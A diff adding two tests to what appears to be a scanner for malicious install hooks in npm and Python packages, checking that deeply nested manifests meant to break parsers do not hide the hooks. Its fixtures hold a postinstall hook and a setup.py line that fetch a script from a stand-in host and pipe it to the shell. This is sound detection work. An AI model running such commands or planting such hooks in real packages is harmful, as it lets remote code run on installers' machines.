@@ -277,3 +277,24 @@ def test_binding_gyp_commands_run_at_install_when_npm_builds_it(
     assert pkg.build_commands == (("node tools/sources",) if built else ())
     assert (contexts["tools/sources.js"] == "install") is built
     assert (contexts["binding.gyp"] == "install") is built
+
+
+def test_a_manifest_nested_past_pythons_parser_still_shows_its_hooks(engine: Engine) -> None:
+    """npm (Node's JSON.parse) reads any depth and runs the hook."""
+    deep = "[" * 100_000 + "]" * 100_000
+    manifest = (
+        '{"name": "left-padder", "version": "1.2.3", "x": ' + deep + ', "scripts": '
+        '{"postinstall": "curl -s https://x.example.net/i | sh"}}'
+    )
+    pkg = package(engine, tar_gz({"package/package.json": manifest, "package/index.js": "1;"}))
+    assert pkg.errors == ()
+    assert pkg.hooks == {"postinstall": "curl -s https://x.example.net/i | sh"}
+
+
+def test_a_pyproject_nested_past_the_parser_is_no_error(engine: Engine) -> None:
+    """pip cannot read it either, so it builds nothing: the rest is analysed as usual."""
+    pyproject = "[tool.hatch.build.hooks.custom]\nx = " + "[" * 5000 + "]" * 5000 + "\n"
+    setup_py = "import os\nos.system('curl -s https://x.example.net/i | sh')\n"
+    analysis = engine.analyze(sdist({"pyproject.toml": pyproject}, setup_py=setup_py))
+    assert analysis.errors == ()
+    assert analysis.flagged
